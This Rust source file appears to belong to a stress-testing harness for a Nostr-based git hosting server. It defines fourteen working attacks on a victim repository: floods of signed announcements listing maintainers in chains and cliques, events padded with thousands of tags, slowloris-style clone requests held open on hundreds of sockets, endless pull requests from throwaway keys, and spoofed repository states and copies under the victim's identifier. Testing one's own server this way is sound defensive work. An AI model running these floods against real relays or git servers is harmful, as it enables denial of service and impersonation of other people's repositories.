//! Attacks by events under the victim's identifier, a name that everybody may use, and to the victim's repository.

use nostr::event::Event;
use nostr::key::Keys;
use tokio::io::AsyncReadExt;

use crate::clients::nostr::now;
use crate::clients::nostr::sign;
use crate::clients::nostr::tag;
use crate::siege::attack::Assault;
use crate::siege::attack::Attack;
use crate::siege::attack::BOTH;
use crate::siege::attack::PAUSE;
use crate::siege::attack::Route;
use crate::siege::attack::repeating;
use crate::siege::attack::side_by_side;
use crate::siege::attacker::Attacker;
use crate::siege::attacker::Request;
use crate::siege::attacker::coordinate;
use crate::siege::attacks::http::clone_request;
use crate::siege::own_repository::OwnRepository;
use crate::siege::own_repository::address_of;
use crate::siege::own_repository::random_id;
use crate::siege::websocket::send_all;

pub(super) const ATTACKS: &[Attack] = &[
    Attack {
        name: "chain-of-maintainers",
        does: "300 announcements of the victim's identifier that list each other in a chain; opens their pages",
        costs: "300 small events",
        worlds: BOTH,
        route: Route::Direct,
        prepare: |attacker| Box::pin(chain(attacker)),
    },
    Attack {
        name: "clique-of-maintainers",
        does: "200 announcements of the victim's identifier of which each lists all others; opens their pages",
        costs: "200 events of 14 KB",
        worlds: BOTH,
        route: Route::Direct,
        prepare: |attacker| Box::pin(clique(attacker)),
    },
    Attack {
        name: "clique-visited-at-once",
        does: "the same 200 announcements; opens their pages on 64 connections at once",
        costs: "200 events of 14 KB",
        worlds: BOTH,
        route: Route::Direct,
        prepare: |attacker| Box::pin(clique_at_once(attacker)),
    },
    Attack {
        name: "padded-maintainers",
        does: "four repositories of the victim's identifier that list 200 keys, each of which has an announcement and a \
               state served with 20,000 elements of tags; announces the four again and again",
        costs: "400 events of 80 KB",
        worlds: BOTH,
        route: Route::Direct,
        prepare: |attacker| Box::pin(padded_maintainers(attacker)),
    },
    Attack {
        name: "large-announcements",
        does: "200 announcements of 5,000 tags each; asks for their packs on 240 sockets, and does not end the requests",
        costs: "200 events of 100 KB, and 240 sockets",
        worlds: BOTH,
        route: Route::Direct,
        prepare: |attacker| Box::pin(large_announcements(attacker)),
    },
    Attack {
        name: "victim-as-maintainer",
        does: "1,900 announcements of the victim's identifier, each of a key of its own, that list the victim",
        costs: "1,900 small events",
        worlds: BOTH,
        route: Route::Direct,
        prepare: |attacker| Box::pin(victim_as_maintainer(attacker)),
    },
    Attack {
        name: "prs-to-many",
        does: "PRs with 16 `a` tags, the victim's among them, from eleven keys, until no more are held",
        costs: "2,200 events of 2 KB",
        worlds: BOTH,
        route: Route::Direct,
        prepare: |attacker| Box::pin(prs_to_many(attacker)),
    },
    Attack {
        name: "prs-from-many-keys",
        does: "PRs to the victim's repository, each of another key, whose commits never come",
        costs: "small events",
        worlds: BOTH,
        route: Route::Direct,
        prepare: |attacker| Box::pin(prs_from_many_keys(attacker)),
    },
    Attack {
        name: "prs-of-the-tip",
        does: "PRs to the victim's repository that name its own commit, so that each is served with a ref",
        costs: "small events",
        worlds: BOTH,
        route: Route::Direct,
        prepare: |attacker| Box::pin(prs_of_the_tip(attacker)),
    },
    Attack {
        name: "states-of-strangers",
        does: "ten keys announce the victim's identifier and send 199 states each; then more",
        costs: "2,000 small events",
        worlds: BOTH,
        route: Route::Direct,
        prepare: |attacker| Box::pin(states_of_strangers(attacker)),
    },
    Attack {
        name: "states-for-the-victim",
        does: "states under the victim's identifier by keys that announced nothing",
        costs: "small events",
        worlds: BOTH,
        route: Route::Direct,
        prepare: |attacker| Box::pin(states_for_the_victim(attacker)),
    },
    Attack {
        name: "copies-of-the-victims",
        does: "announces and declares the victim's commit under his own keys, so that the repository is copied",
        costs: "two small events a copy",
        worlds: BOTH,
        route: Route::Direct,
        prepare: |attacker| Box::pin(copies(attacker)),
    },
    Attack {
        name: "full-second",
        does: "has 1,001 announcements of the victim's identifier served, all of one second",
        costs: "six repositories that list 170 keys each, and 1,001 small events",
        worlds: BOTH,
        route: Route::Direct,
        prepare: |attacker| Box::pin(full_second(attacker)),
    },
    Attack {
        name: "many-identifiers",
        does: "PRs of 16 identifiers of his own, which lock all of them, one after the other",
        costs: "events of 2 KB",
        worlds: BOTH,
        route: Route::Direct,
        prepare: |attacker| Box::pin(many_identifiers(attacker)),
    },
];

/// Announcements of the victim's identifier, by as many keys, each with the maintainers that `lists` tells by number.
fn announcements(attacker: &Attacker, keys: &[Keys], lists: impl Fn(usize) -> Vec<String>) -> Vec<Event> {
    let identifier = attacker.victim.identifier();
    let announce = |(number, owner): (usize, &Keys)| {
        let mut maintainers = vec!["maintainers".to_owned()];
        maintainers.extend(lists(number));
        attacker.announcement(owner, &identifier, now(), &[maintainers])
    };
    keys.iter().enumerate().map(announce).collect()
}

/// Opens pages and refs of repositories under the victim's identifier, one after the other.
fn visits(attacker: Attacker, keys: Vec<Keys>) -> Assault {
    let identifier = attacker.victim.identifier();
    Box::pin(async move {
        for owner in keys.iter().cycle() {
            let path = wire::path::repository_path(&coordinate(owner, &identifier));
            let refs = format!("{path}/info/refs?service=git-upload-pack");
            attacker.request(&Request::get(&path)).await;
            attacker.request(&Request::get(&refs)).await;
        }
    })
}

fn new_keys(count: usize) -> Vec<Keys> {
    (0..count).map(|_| Keys::generate()).collect()
}

async fn chain(attacker: Attacker) -> Assault {
    let keys = new_keys(300);
    let next = |number: usize| vec![keys[(number + 1) % keys.len()].public_key().to_hex()];
    send_all(&attacker, &announcements(&attacker, &keys, next)).await;
    visits(attacker, keys)
}

async fn clique(attacker: Attacker) -> Assault {
    let keys = announce_clique(&attacker).await;
    visits(attacker, keys)
}

async fn clique_at_once(attacker: Attacker) -> Assault {
    let keys = announce_clique(&attacker).await;
    Box::pin(side_by_side(64, move |visitor| {
        let mut keys = keys.clone();
        keys.rotate_left(3 * visitor);
        visits(attacker.clone(), keys)
    }))
}

/// Announces repositories of which each lists the owners of all.
async fn announce_clique(attacker: &Attacker) -> Vec<Keys> {
    let keys = new_keys(200);
    let all: Vec<String> = keys.iter().map(|key| key.public_key().to_hex()).collect();
    send_all(attacker, &announcements(attacker, &keys, |_| all.clone())).await;
    keys
}

async fn padded_maintainers(attacker: Attacker) -> Assault {
    let (keys, identifier) = (new_keys(200), attacker.victim.identifier());
    let mut lists = vec!["maintainers".to_owned()];
    lists.extend(keys.iter().map(|key| key.public_key().to_hex()));
    let (mut own, mut commit) = (Vec::new(), String::new());
    for _ in 0..4 {
        let repository = OwnRepository::new(&attacker, &identifier).await;
        commit = repository.serve(&attacker, &[lists.clone()]).await;
        own.push(repository.repository.owner.clone());
    }
    // Older than those of the repositories: they are served as soon as their data is here, and move no ref.
    let padded = |owner: &Keys, kind, tags: &[Vec<String>]| {
        let mut tags = tags.to_vec();
        tags.push(tag(&["d", &identifier]));
        tags.resize(4_990, tag(&["tt", "", "", ""]));
        sign(owner, kind, now() - 200, &tags)
    };
    let states = keys
        .iter()
        .map(|owner| padded(owner, 30618, &[tag(&["refs/heads/main", &commit])]));
    send_all(&attacker, &states.collect::<Vec<_>>()).await;
    let announcements = keys.iter().map(|owner| padded(owner, 30617, &[]));
    send_all(&attacker, &announcements.collect::<Vec<_>>()).await;
    let announcer = attacker.clone();
    repeating(attacker, move |number| {
        let owner = &own[number as usize % own.len()];
        announcer.announcement(owner, &identifier, now() + number / 4, &[lists.clone()])
    })
}

async fn large_announcements(attacker: Attacker) -> Assault {
    let keys = new_keys(200);
    let many: Vec<Vec<String>> = (0..4_900).map(|_| tag(&["t", "x", "x", "x"])).collect();
    let announced: Vec<Event> = (keys.iter())
        .map(|owner| attacker.announcement(owner, "large", now(), &many))
        .collect();
    send_all(&attacker, &announced).await;
    Box::pin(side_by_side(240, move |number| {
        let attacker = attacker.clone();
        let path = wire::path::repository_path(&coordinate(&keys[number % keys.len()], "large"));
        async move {
            loop {
                let mut request = clone_request(&path, &"1".repeat(40));
                request.body.truncate(20);
                if let Some(mut socket) = attacker.begin(None, &request).await {
                    // Until the server is tired of it.
                    let read = socket.read(&mut [0; 16]).await;
                    attacker.effort.answered(&format!("read {read:?}"));
                }
                tokio::time::sleep(PAUSE).await;
            }
        }
    }))
}

async fn victim_as_maintainer(attacker: Attacker) -> Assault {
    let keys = new_keys(1900);
    let victim = attacker.victim.coordinate.owner.to_hex();
    send_all(&attacker, &announcements(&attacker, &keys, |_| vec![victim.clone()])).await;
    visits(attacker, keys)
}

async fn prs_to_many(attacker: Attacker) -> Assault {
    let keys = new_keys(11);
    let mut addresses = vec![address_of(&attacker.victim.coordinate)];
    let mut announced = Vec::new();
    for number in 0..15 {
        let identifier = format!("other-{number}");
        announced.push(attacker.announcement(&keys[0], &identifier, now(), &[]));
        addresses.push(address_of(&coordinate(&keys[0], &identifier)));
    }
    send_all(&attacker, &announced).await;
    let pull_request = move |number: u64| {
        let mut tags = addresses.clone();
        tags.push(tag(&["c", &format!("{:040x}", number + 1)]));
        sign(&keys[number as usize % keys.len()], 1618, now(), &tags)
    };
    let first: Vec<Event> = (0..2200).map(&pull_request).collect();
    send_all(&attacker, &first).await;
    repeating(attacker, move |number| pull_request(number + 2200))
}

#[expect(clippy::unused_async, reason = "nothing has to be prepared")]
async fn prs_from_many_keys(attacker: Attacker) -> Assault {
    let address = address_of(&attacker.victim.coordinate);
    repeating(attacker, move |number| {
        let tags = [address.clone(), tag(&["c", &format!("{:040x}", number + 1)])];
        sign(&Keys::generate(), 1618, now(), &tags)
    })
}

#[expect(clippy::unused_async, reason = "nothing has to be prepared")]
async fn prs_of_the_tip(attacker: Attacker) -> Assault {
    let tags = [
        address_of(&attacker.victim.coordinate),
        tag(&["c", &attacker.victim.tip]),
    ];
    let keys = new_keys(5);
    repeating(attacker, move |number| {
        sign(&keys[number as usize % keys.len()], 1618, now() - number / 5, &tags)
    })
}

async fn states_of_strangers(attacker: Attacker) -> Assault {
    let keys = new_keys(10);
    let identifier = attacker.victim.identifier();
    send_all(&attacker, &announcements(&attacker, &keys, |_| Vec::new())).await;
    let state = move |number: u64| {
        let tags = [
            tag(&["d", &identifier]),
            tag(&["refs/heads/main", &format!("{:040x}", number + 1)]),
        ];
        sign(&keys[number as usize % keys.len()], 30618, now() - number, &tags)
    };
    let first: Vec<Event> = (0..1990).map(&state).collect();
    send_all(&attacker, &first).await;
    repeating(attacker, move |number| state(number + 1990))
}

#[expect(clippy::unused_async, reason = "nothing has to be prepared")]
async fn states_for_the_victim(attacker: Attacker) -> Assault {
    let identifier = attacker.victim.identifier();
    repeating(attacker, move |number| {
        let tags = [
            tag(&["d", &identifier]),
            tag(&["refs/heads/main", &format!("{:040x}", number + 1)]),
        ];
        sign(&Keys::generate(), 30618, now(), &tags)
    })
}

#[expect(clippy::unused_async, reason = "nothing has to be prepared")]
async fn copies(attacker: Attacker) -> Assault {
    let identifier = attacker.victim.identifier();
    let tip = attacker.victim.tip.clone();
    Box::pin(async move {
        for _ in 0..60 {
            let owner = Keys::generate();
            let tags = [tag(&["d", &identifier]), tag(&["refs/heads/main", &tip])];
            let events = [
                attacker.announcement(&owner, &identifier, now() - 10, &[]),
                sign(&owner, 30618, now() - 10, &tags),
            ];
            send_all(&attacker, &events).await;
        }
    })
}

async fn full_second(attacker: Attacker) -> Assault {
    let identifier = attacker.victim.identifier();
    let at = now() - 50;
    let mut foreign = Vec::new();
    for _ in 0..6 {
        let keys = new_keys(170);
        let mut lists = vec!["maintainers".to_owned()];
        lists.extend(keys.iter().map(|key| key.public_key().to_hex()));
        OwnRepository::new(&attacker, &identifier)
            .await
            .serve(&attacker, &[lists])
            .await;
        // For another server: they need no repository here.
        foreign.extend(
            keys.iter()
                .map(|owner| sign(owner, 30617, at, &[tag(&["d", &identifier])])),
        );
    }
    send_all(&attacker, &foreign).await;
    let address = address_of(&attacker.victim.coordinate);
    repeating(attacker, move |_| {
        sign(
            &Keys::generate(),
            1618,
            now(),
            &[address.clone(), tag(&["c", &random_id()[..40]])],
        )
    })
}

#[expect(clippy::unused_async, reason = "nothing has to be prepared")]
async fn many_identifiers(attacker: Attacker) -> Assault {
    let announcer = attacker.clone();
    let owner = Keys::generate();
    repeating(attacker, move |number| match number {
        0..16 => announcer.announcement(&owner, &format!("own-{number}"), now(), &[]),
        _ => {
            let address = |other| address_of(&coordinate(&owner, &format!("own-{other}")));
            let mut tags: Vec<_> = (0..16).map(address).collect();
            tags.push(tag(&["c", &format!("{:040x}", number + 1)]));
            sign(&Keys::generate(), 1618, now(), &tags)
        }
    })
}
